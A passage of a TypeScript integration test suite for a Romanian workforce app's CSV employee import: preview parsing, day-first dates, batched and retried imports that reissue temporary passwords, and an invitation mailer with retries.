    const { owner, company } = await buildTenant();
    const name = uniqueName('titlu');
    const file = {
      name: 'angajati.csv',
      content: `\uFEFFLista angajaților – Construcții Brașov SRL;;;\r\nActualizată la 01.03.2026;;;\r\n;;;\r\n${HEADER}\r\n${name};Ana;Pop;${name}@example.ro;02.11.1990;Sudor;\r\n`,
    };

    const preview = await upload<Preview>('/api/users/import/preview/', await tokenFor(owner), {
      company: company.id,
      file,
    });

    expect(preview.status).toBe(200);
    expect(preview.body).toMatchObject({
      header_row: 4,
      unknown_columns: [],
      summary: { new: 1, invalid: 0 },
    });
    expect(preview.body.rows).toEqual([expect.objectContaining({ row: 5, username: name, status: 'new' })]);
  });

  it('shows the dates it read, day first, and refuses a slashed date a month-first column makes ambiguous', async () => {
    const { owner, company } = await buildTenant();
    const name = uniqueName('date');
    const token = await tokenFor(owner);
    const dayFirst = csvOf([`${name}.a;Ana;Pop;;3/4/1985;;`, `${name}.b;Dan;Ene;;1985-12-01;;`]);
    const monthFirst = csvOf([
      `${name}.c;Ion;Vlad;;3/4/1985;;`,
      `${name}.d;Eva;Rus;;4/23/1985;;`,
      `${name}.e;Ilie;Gheorghe;;23/4/1985;;`,
    ]);

    const read = await upload<Preview>('/api/users/import/preview/', token, {
      company: company.id,
      file: dayFirst,
    });
    const refused = await upload<Preview>('/api/users/import/preview/', token, {
      company: company.id,
      file: monthFirst,
    });

    expect(read.body.rows.map((row) => [row.username, row.status, row.birth_date])).toEqual([
      [`${name}.a`, 'new', '1985-04-03'],
      [`${name}.b`, 'new', '1985-12-01'],
    ]);
    const message = (written: string) => texts.importFile.dateMonthFirst(written, '4/23/1985');
    expect(refused.body.rows.map((row) => [row.status, row.birth_date, row.errors])).toEqual([
      ['invalid', null, { birth_date: [message('3/4/1985')] }],
      ['invalid', null, { birth_date: [message('4/23/1985')] }],
      ['new', '1985-04-23', {}],
    ]);
  });

  it('imports workers without an e-mail and invites only those with one', async () => {
    const { owner, company } = await buildTenant();
    const name = uniqueName('fara-mail');
    const file = csvOf([`${name}.1;Ion;Vlad;;;;`, `${name}.2;Ana;Pop;${name}.2@example.ro;;;`]);

    const answer = await upload<Imported>('/api/users/import/', await tokenFor(owner), {
      company: company.id,
      file,
    });

    expect(answer.status).toBe(201);
    expect(answer.body.created.map((user) => [user.username, user.email])).toEqual([
      [`${name}.1`, null],
      [`${name}.2`, `${name}.2@example.ro`],
    ]);
    expect(answer.body.invitations).toBe(1);
    expect(await readMailsTo(`${name}.2@example.ro`)).toHaveLength(1);
    const withoutMail = answer.body.created[0];
    const signIn = await api.post('/api/token/', {
      username: withoutMail?.username,
      password: withoutMail?.temporary_password,
    });
    expect(signIn.status).toBe(200);
  });

  it('takes more than 1,000 rows in batches: each creates its rows once, and a batch sent again creates none', async () => {
    const { owner, company } = await buildTenant();
    const token = await tokenFor(owner);
    const name = uniqueName('mii');
    const file = csvOf(
      Array.from(
        { length: 1200 },
        (_, index) => `${name}.${index};Ion;Vlad${index};${name}.${index}@example.ro;;;`,
      ),
    );

    const preview = await upload<Preview>('/api/users/import/preview/', token, { company: company.id, file });
    const batch = (from: number, to: number) =>
      upload<Imported>('/api/users/import/', token, {
        company: company.id,
        file,
        range: { from, to },
      });
    const first = await batch(2, 601);
    const again = await batch(2, 601);
    const second = await batch(602, 1201);
    const backwards = await batch(700, 600);

    expect(preview.body.summary).toEqual({ new: 1200, existing: 0, invalid: 0 });
    expect([first.body.created.length, first.body.invitations]).toEqual([600, 600]);
    expect(again.body.created).toEqual([]);
    expect(again.body.existing).toHaveLength(600);
    expect(second.body.created.map((user) => user.username)).toEqual(
      Array.from({ length: 600 }, (_, index) => `${name}.${index + 600}`),
    );
    expect(backwards).toMatchObject({ status: 400, body: { detail: texts.userImport.rowRangeInvalid } });
    expect(await listAllUsersOfCompany(company.id)).toHaveLength(1202);
    expect(await getTrainingStatus(company.id)).toMatchObject({ workers_untrained: 1202 });
  });
});

describe('a batch sent again after its answer was lost', () => {
  it('gives the people its session created a new temporary password and their invitation again', async () => {
    const { owner, company } = await buildTenant();
    const token = await tokenFor(owner);
    const name = uniqueName('pierdut');
    const file = csvOf([`${name}.1;Ion;Vlad;${name}.1@example.ro;;;`, `${name}.2;Ana;Pop;;;;`]);
    const session = randomUUID();

    // The gateway cut this call off: the people exist, the page never saw their passwords.
    const lost = await upload<Imported>('/api/users/import/', token, { company: company.id, file, session });
    const again = await upload<Imported>('/api/users/import/', token, { company: company.id, file, session });

    expect(again.status).toBe(201);
    expect(again.body.recovered).toEqual([`${name}.1`, `${name}.2`]);
    expect(again.body.existing).toEqual([]);
    expect(again.body.created.map((person) => person.id).sort()).toEqual(
      lost.body.created.map((person) => person.id).sort(),
    );
    const [first] = again.body.created;
    expect(again.body.credentials_csv).toContain(
      `${name}.1;Ion;Vlad;${name}.1@example.ro;${first?.temporary_password}`,
    );
    const oldPassword = lost.body.created.find(
      (person) => person.username === `${name}.1`,
    )?.temporary_password;
    expect((await api.post('/api/token/', { username: `${name}.1`, password: oldPassword })).status).toBe(
      401,
    );
    const login = await api.post('/api/token/', {
      username: `${name}.1`,
      password: first?.temporary_password,
    });
    expect(login.status).toBe(200);
    // The first invitation's link died with the old password: the person is invited again.
    expect(again.body.invitations).toBe(1);
    expect(await readMailsTo(`${name}.1@example.ro`)).toHaveLength(2);
  });

  it('leaves as existing the people of another run, and those who have chosen a password', async () => {
    const { owner, company } = await buildTenant();
    const token = await tokenFor(owner);
    const name = uniqueName('alt');
    const file = csvOf([`${name}.1;Ion;Vlad;;;;`, `${name}.2;Ana;Pop;;;;`]);
    const session = randomUUID();
    const lost = await upload<Imported>('/api/users/import/', token, { company: company.id, file, session });
    const settled = lost.body.created.find((person) => person.username === `${name}.2`);
    const signedIn = await api.post<{ access: string }>('/api/token/', {
      username: `${name}.2`,
      password: settled?.temporary_password,
    });
    const changed = await api.post(
      '/api/change-password/',
      { old_password: settled?.temporary_password, new_password: 'O parolă nouă, aleasă în 2026' },
      signedIn.body.access,
    );
    expect(changed.status).toBe(200);

    const otherRun = await upload<Imported>('/api/users/import/', token, {
      company: company.id,
      file,
      session: randomUUID(),
    });
    const sameRun = await upload<Imported>('/api/users/import/', token, {
      company: company.id,
      file,
      session,
    });

    expect(otherRun.body).toMatchObject({ created: [], recovered: [], existing: [`${name}.1`, `${name}.2`] });
    expect(sameRun.body.recovered).toEqual([`${name}.1`]);
    expect(sameRun.body.existing).toEqual([`${name}.2`]);
  });
});

describe('the invitation job', () => {
  it('tries a refused mail again, mails nobody twice, and fails visibly for those refused every time', async () => {
    const { firm, company } = await buildTenant();
    const people = await Promise.all(
      ['a', 'b', 'c'].map((letter) =>
        buildUser(
          { role: 'employee', firmId: firm.id, companyId: company.id },
          { email: `${uniqueName(letter)}@example.ro`, password_version: 1 },
        ),
      ),
    );
    const [flaky, healthy, broken] = people as [UserRecord, UserRecord, UserRecord];
    const sent: string[] = [];
    let flakyRefusals = 0;
    const mailer = {
      async send(message: { to: string }) {
        if (message.to === broken.email) throw new Error('SES: mailbox rejected');
        if (message.to === flaky.email && flakyRefusals++ === 0) throw new Error('SES: throttled');
        sent.push(message.to);
      },
    };

    const run = sendImportInvitations({
      companyId: company.id,
      userIds: people.map((person) => person.id),
      mailer,
      retryPauses: [1, 1],
    });

    await expect(run).rejects.toThrow('1 of 3 invitations could not be mailed');
    expect(sent.sort()).toEqual([flaky.email, healthy.email].sort());
  });

  it("mails only the company's people who have not chosen a password since", async () => {
    const { firm, company } = await buildTenant();
    const other = await buildTenant();
    const fresh = await buildUser(
      { role: 'employee', firmId: firm.id, companyId: company.id },
      { email: `${uniqueName('nou')}@example.ro`, password_version: 1 },
    );
    const settled = await buildUser(
      { role: 'employee', firmId: firm.id, companyId: company.id },
      { email: `${uniqueName('vechi')}@example.ro`, password_version: 2 },
    );
    const foreign = await buildUser(
      { role: 'employee', firmId: other.firm.id, companyId: other.company.id },
      { email: `${uniqueName('strain')}@example.ro`, password_version: 1 },
    );
    const sent: string[] = [];

    const result = await sendImportInvitations({
      companyId: company.id,
      userIds: [fresh.id, settled.id, foreign.id],
      mailer: { send: async (message) => void sent.push(message.to) },
    });

    expect(result).toEqual({ sent: 1 });
    expect(sent).toEqual([fresh.email]);
  });
});
